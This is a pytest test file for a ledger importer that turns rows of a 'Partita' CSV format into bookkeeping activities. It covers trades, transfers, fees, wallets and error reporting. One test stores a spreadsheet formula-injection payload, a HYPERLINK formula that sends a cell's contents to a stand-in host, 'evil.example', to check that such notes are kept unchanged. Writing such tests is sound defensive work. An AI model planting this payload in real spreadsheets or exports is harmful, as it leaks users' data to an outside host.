"""A row of Partita CSV becomes one activity; a wrong row is named and the others stay."""

from datetime import UTC, datetime

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ledger.model.amount import Money
from ledger.model.asset import Asset, AssetId
from ledger.model.fund import Wallet
from ledger.venues import partita_csv
from ledger.venues._partita import COLUMNS, KINDS
from ledger.venues.importing import read_files

ONE = 10**18
HEADER = ",".join(COLUMNS)
CHAIN_WALLET = Wallet("eip155:1", "0x" + "11" * 20, "hot")


def imported(*rows, header=HEADER, wallets=(), owner="", assets=None, name="rows.csv"):
    body = "\n".join([header, *rows, ""]).encode()
    named = {wallet.label: wallet for wallet in wallets}
    return read_files([(name, body)], [partita_csv], named, owner, assets or {})


def row(**cells):
    return ",".join(cells.get(name, "") for name in COLUMNS)


def moved(activity):
    return [(move.asset, move.quantity, move.sender, move.recipient) for move in activity.transfers]


BUY = row(
    time="2024-03-01T10:00:00Z", kind="buy", wallet="bank", sent_asset="USD", sent_quantity="1000",
    received_asset="BTC", received_quantity="0.02", fee_asset="USD", fee_quantity="1.5",
    strategy="hedge", txid="t-1", note="first",
)  # fmt: skip


def test_a_trade_goes_through_the_market_and_its_fee_is_on_top():
    reading = imported(BUY)
    (activity,) = reading.activities
    assert moved(activity) == [
        ("iso4217:USD", 1000 * ONE, "bank", "market"),
        ("symbol:BTC", ONE // 50, "market", "bank"),
        ("iso4217:USD", 3 * ONE // 2, "bank", "fee"),
    ]
    assert reading.balances() == {"iso4217:USD": -1001 * ONE - ONE // 2, "symbol:BTC": ONE // 50}


def test_an_activity_tells_what_the_row_says_and_points_at_it():
    (activity,) = imported(BUY).activities
    (line,) = imported(BUY).lines
    assert activity.id == f"venue:partita/row:{line.id}"
    assert activity.evidence == (line.id,)
    assert activity.time == datetime(2024, 3, 1, 10, tzinfo=UTC)
    statement = activity.statement
    assert (statement.kind, statement.strategy) == ("buy", "hedge")
    assert (statement.note, statement.reference, activity.txid) == ("first", "t-1", "t-1")


def test_an_unnamed_wallet_is_made_at_the_venue():
    reading = imported(BUY.replace("bank", "cold box"))
    (wallet,) = reading.wallets
    assert (wallet.id, wallet.label) == ("venue:partita:cold%20box", "cold box")
    assert reading.activities[0].network == "venue:partita"


def test_a_wallet_named_like_the_other_side_is_another_place():
    (wallet,) = imported(BUY.replace("bank", "market")).wallets
    assert wallet.address == "%6Darket"


def test_the_label_of_a_fund_wallet_means_that_wallet():
    reading = imported(BUY.replace("bank", "hot"), wallets=[CHAIN_WALLET])
    assert not reading.wallets
    assert reading.activities[0].network == "eip155:1"
    assert reading.activities[0].transfers[0].sender == CHAIN_WALLET.address
    assert reading.accounts == {CHAIN_WALLET.id}


def test_a_row_without_wallet_is_the_owners():
    reading = imported(BUY.replace("bank", ""), wallets=[CHAIN_WALLET], owner="hot")
    assert reading.accounts == {CHAIN_WALLET.id}
    assert imported(BUY.replace("bank", "")).accounts == {"venue:partita:main"}


def test_what_a_transfer_loses_on_its_way_is_its_fee():
    reading = imported(
        row(
            time="2024-03-02", kind="transfer", wallet="bank", to_wallet="hot", sent_asset="BTC",
            sent_quantity="0.02", received_asset="BTC", received_quantity="0.019", value="900",
            value_currency="usd",
        ),
        wallets=[CHAIN_WALLET],
    )  # fmt: skip
    (activity,) = reading.activities
    assert moved(activity) == [
        ("symbol:BTC", 19 * ONE // 1000, "bank", CHAIN_WALLET.id),
        ("symbol:BTC", ONE // 1000, "bank", "fee"),
    ]
    assert reading.balances() == {"symbol:BTC": -ONE // 1000}
    assert activity.statement.value == Money(900 * ONE, "USD")


@pytest.mark.parametrize(
    ("kind", "side", "money"),
    [("buy", "received", -20_000), ("sell", "sent", 20_000), ("liquidation", "sent", 20_000)],
)
def test_the_blank_side_of_a_trade_is_its_stated_value_in_the_same_wallet(kind, side, money):
    one_side = {f"{side}_asset": "BTC", f"{side}_quantity": "1"}
    said = {"value": "20000", "value_currency": "usd"}
    reading = imported(row(time="2024-03-01", kind=kind, wallet="bank", **one_side, **said))
    coins = ONE if side == "received" else -ONE
    assert reading.balances() == {"iso4217:USD": money * ONE, "symbol:BTC": coins}
    parties = {
        party for move in reading.activities[0].transfers for party in (move.sender, move.recipient)
    }
    assert parties == {"bank", "market"}


def test_a_side_that_is_given_goes_before_the_value():
    reading = imported(BUY.replace(",1.5,,", ",1.5,900,EUR"))
    assert set(reading.balances()) == {"iso4217:USD", "symbol:BTC"}


def test_no_kind_books_a_quantity_of_zero():
    for kind, rule in KINDS.items():
        for side in ("sent", "received"):
            cells = {"time": "2024-01-01", "kind": kind, "to_wallet": "w" * (kind == "transfer")}
            for mark, name in zip(rule, ("sent", "received"), strict=True):
                quantity = "0" if name == side else "1"
                if mark in "+?":
                    cells |= {f"{name}_asset": f"A{name}", f"{name}_quantity": quantity}
            if f"{side}_asset" in cells:
                reading = imported(row(**cells))
                assert not reading.activities, (kind, side)
                assert [one.code for one in reading.problems] == ["bad_row"], (kind, side)
                assert f"{side}_quantity" in reading.problems[0].message


def test_a_fee_of_zero_beside_a_trade_is_no_fault():
    assert not imported(BUY.replace("USD,1.5", "USD,0")).problems


def test_columns_may_stand_in_any_order_and_be_left_out():
    reading = imported("0.5,BTC,mining,2024-01-01",
                       header="received_quantity,received_asset,kind,time")  # fmt: skip
    assert reading.balances() == {"symbol:BTC": ONE // 2}


def test_an_unknown_column_refuses_the_file_by_name():
    reading = imported(BUY + ",x", header=HEADER + ",colour")
    assert [one.code for one in reading.problems] == ["unknown_column"]
    assert "'colour'" in reading.problems[0].message
    assert (reading.lines, reading.activities, reading.rows_read) == ((), (), 1)


def test_a_column_that_stands_twice_refuses_the_file():
    reading = imported(BUY + ",x", header=HEADER + ",note")
    assert [one.code for one in reading.problems] == ["unknown_column"]
    assert not reading.activities


GOOD = row(time="2024-01-01", kind="income", received_asset="ETH", received_quantity="1")


@pytest.mark.parametrize(
    ("wrong", "code", "word"),
    [
        (GOOD.replace("income", "Income"), "unknown_kind", "'Income'"),
        (GOOD.replace("2024-01-01", "1/2/2024"), "bad_time", "'1/2/2024'"),
        (GOOD.replace(",1,", ",1e3,"), "bad_amount", "'1e3'"),
        (GOOD.replace(",1,", ",-1,"), "bad_amount", "-1"),
        (GOOD.replace(",1,", ",0.0000000000000000001,"), "too_precise", "0.0000000000000000001"),
        (GOOD.replace(",1,", ",,"), "bad_row", "received_quantity"),
        (GOOD.replace("ETH", ""), "bad_row", "received_asset"),
        (GOOD.replace("ETH", "E TH"), "bad_row", "E TH"),
        (GOOD.replace("income", "spend"), "bad_row", "spend"),
        (GOOD.replace("income", "swap"), "bad_row", "sent_asset"),
        (row(time="2024-01-01", kind="fee"), "bad_row", "fee"),
        (row(time="2024-01-01", kind="fee", fee_asset="A", fee_quantity="0"), "bad_row", "fee"),
        (row(time="2024-01-01", kind="buy", received_asset="A", received_quantity="1"),
         "bad_row", "buy needs its price"),
        (row(time="2024-01-01", kind="liquidation", sent_asset="A", sent_quantity="1", value="0",
             value_currency="USD"), "bad_row", "liquidation needs its price"),
        (row(time="2024-01-01", kind="swap", sent_asset="A", sent_quantity="1", received_asset="A",
             received_quantity="2"), "bad_row", "two assets"),
        (BUY.replace(",hedge,", ",two words,"), "bad_row", "two words"),
        (row(time="2024-01-01", kind="transfer", sent_asset="A", sent_quantity="1"),
         "bad_row", "to_wallet"),
        (row(time="2024-01-01", kind="transfer", sent_asset="A", sent_quantity="1", wallet="x",
             to_wallet="x"), "bad_row", "two wallets"),
        (row(time="2024-01-01", kind="transfer", sent_asset="A", sent_quantity="1", to_wallet="x",
             received_asset="A", received_quantity="2"), "bad_amount", "more"),
        (row(time="2024-01-01", kind="income", received_asset="A", received_quantity="1",
             value="5"), "bad_row", "value_currency"),
        ("2024-01-01,income", "bad_row", "2 cells"),
    ],
)  # fmt: skip
def test_a_wrong_row_is_named_and_the_others_are_booked(wrong, code, word):
    reading = imported(GOOD, wrong, BUY)
    (problem,) = reading.problems
    assert (problem.code, problem.file, problem.line) == (code, "rows.csv", 3)
    assert word in problem.message
    assert len(reading.activities) == len(reading.lines) == 2
    assert reading.rows_read == 3


def test_a_file_cut_in_its_last_row_keeps_the_others():
    body = "\n".join([HEADER, GOOD, BUY[:40]]).encode()
    reading = read_files([("cut.csv", body)], [partita_csv], {})
    assert [(one.code, one.line) for one in reading.problems] == [("truncated_file", 3)]
    assert len(reading.activities) == 1


def test_identical_rows_are_two_activities_and_the_same_file_twice_is_none_more():
    body = f"{HEADER}\n{GOOD}\n{GOOD}".encode()
    once = read_files([("a.csv", body)], [partita_csv], {})
    twice = read_files([("a.csv", body), ("b.csv", body)], [partita_csv], {})
    assert len(once.activities) == 2
    assert twice.activities == once.activities
    assert twice.lines == once.lines


def test_a_token_is_counted_in_the_decimals_that_are_known_of_it():
    token = AssetId("eip155:1/erc20:0x" + "ab" * 20)
    line = GOOD.replace("ETH", token)
    unknown = imported(line)
    assert unknown.balances() == {token: ONE}
    assert [question.subject for question in unknown.questions] == [token]
    known = imported(line, assets={token: Asset(token, "T", 6)})
    assert known.balances() == {token: 10**6}
    assert not known.questions


def test_hostile_notes_are_kept_as_they_are():
    note = '=HYPERLINK("http://evil.example/?"&A1)'
    quoted = '"' + note.replace('"', '""') + '"'
    (activity,) = imported(BUY.replace("first", quoted)).activities
    assert activity.statement.note == note


def test_every_kind_can_be_booked():
    legs = {"sent": {"sent_asset": "A", "sent_quantity": "2"},
            "received": {"received_asset": "B", "received_quantity": "1"}}  # fmt: skip
    for kind, rule in KINDS.items():
        cells = {"time": "2024-01-01", "kind": kind}
        for mark, side in zip(rule, ("sent", "received"), strict=True):
            cells |= legs[side] if mark in "+?" else {}
        if kind == "transfer":
            cells |= {"to_wallet": "other", "received_asset": "A"}
        reading = imported(row(**cells))
        assert not reading.problems, kind
        assert reading.activities[0].statement.kind == kind


ROWS = st.lists(
    st.builds(
        lambda day, quantity, wallet: row(
            time=f"2024-01-{day:02}", kind="income", wallet=wallet, received_asset="ETH",
            received_quantity=str(quantity),
        ),
        st.integers(1, 3), st.integers(1, 3), st.sampled_from(["a", "b"]),
    ),
    min_size=1, max_size=12,
)  # fmt: skip


@given(st.data())
def test_the_order_of_rows_changes_nothing(data):
    rows = data.draw(ROWS)
    shuffled = data.draw(st.permutations(rows))
    first, second = imported(*rows), imported(*shuffled)
    assert first.activities == second.activities
    assert first.lines == second.lines
    assert first.wallets == second.wallets


@pytest.mark.parametrize(("fee", "value"), [("", 900), ("1", 1050), ("0", 900)])
def test_the_value_of_a_transfer_is_that_of_the_units_sent_and_grows_by_its_fee(fee, value):
    cells = {"fee_asset": "BTC", "fee_quantity": fee} if fee else {}
    reading = imported(
        row(
            time="2024-03-02", kind="transfer", wallet="bank", to_wallet="hot", sent_asset="BTC",
            sent_quantity="6", received_quantity="5", received_asset="BTC", value="900",
            value_currency="USD", **cells,
        )
    )  # fmt: skip
    assert reading.activities[0].statement.value == Money(value * ONE, "USD")
